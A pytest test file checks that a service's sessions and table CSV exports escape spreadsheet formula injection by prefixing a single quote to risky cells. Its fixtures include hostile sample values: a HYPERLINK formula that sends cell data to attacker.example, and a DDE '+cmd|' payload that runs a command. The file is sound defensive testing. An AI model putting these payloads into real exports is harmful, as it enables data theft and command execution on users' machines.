"""Every CSV the service writes neutralises cells a spreadsheet would run as formulas (OWASP's
CSV Injection): text starting with = + - @, a tab or a carriage return gets a leading single
quote, in the sessions CSV (csv.writer on SQLite, PostgreSQL's COPY on PostgreSQL) and the table
CSV alike. The audit: a kiosk renamed `=HYPERLINK(...)` was exported as a live formula."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from tests import factories

LINK = '=HYPERLINK("https://attacker.example/?d="&A1,"Details")'
DAY = "2026-07-01"
RANGE = {"preset": "custom", "date_from": DAY, "date_to": DAY}


@pytest.fixture
def business(db):
    """The tenant whose reports are read (tests/conftest.py's `owner_client` signs in as its owner):
    kiosks, an agent and locales named like formulas, one session each."""
    business = factories.BusinessFactory(timezone="UTC")
    agent = factories.AgentFactory(owner=business.owner, name="@SUM(1+1)")
    started = datetime(2026, 7, 1, 12, tzinfo=UTC)
    kiosks = {}
    for name, locale in ((LINK, "\tcmd"), ("-5", "en-US"), ("+cmd|' /C calc'!A0", "\rx"), ("Front, = left", "de")):
        kiosks[name] = kiosk = factories.KioskFactory(business=business, name=name)
        factories.SessionFactory(
            kiosk=kiosk, agent=agent, status="completed", customer_locale=locale, created_at=started,
            accepted_at=started + timedelta(seconds=5), ended_at=started + timedelta(seconds=60),
        )  # fmt: skip
    return business


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


def test_the_sessions_csv_neutralises_formulas_in_names_and_locales(owner_client):
    header, *lines = rows_of(owner_client.get("/panel/reports/sessions.csv", RANGE))
    agent, kiosk, locale = header.index("agent"), header.index("kiosk"), header.index("language")
    found = sorted((line[kiosk], line[locale], line[agent]) for line in lines)
    assert found == sorted([
        ("'" + LINK, "'\tcmd", "'@SUM(1+1)"),
        ("-5", "en-US", "'@SUM(1+1)"),  # a plain number computes nothing: left as it is
        ("'+cmd|' /C calc'!A0", "'\rx", "'@SUM(1+1)"),
        ("Front, = left", "de", "'@SUM(1+1)"),  # a formula sign inside the text is harmless
    ])  # fmt: skip


@pytest.mark.parametrize(("group_by", "names"), [
    ("kiosk", {"'" + LINK, "-5", "'+cmd|' /C calc'!A0", "Front, = left"}),
    ("agent", {"'@SUM(1+1)"}),
])  # fmt: skip
def test_the_table_csv_neutralises_formulas_in_group_names(owner_client, group_by, names):
    header, *lines = rows_of(owner_client.get("/panel/reports/table.csv", {**RANGE, "group_by": group_by}))
    assert header[:2] == [f"{group_by}_id", group_by]
    assert {line[1] for line in lines[:-1]} == names and lines[-1][1] == "totals"
    for line in lines:
        assert not any(value.startswith(("=", "+", "@", "\t", "\r")) for value in line)
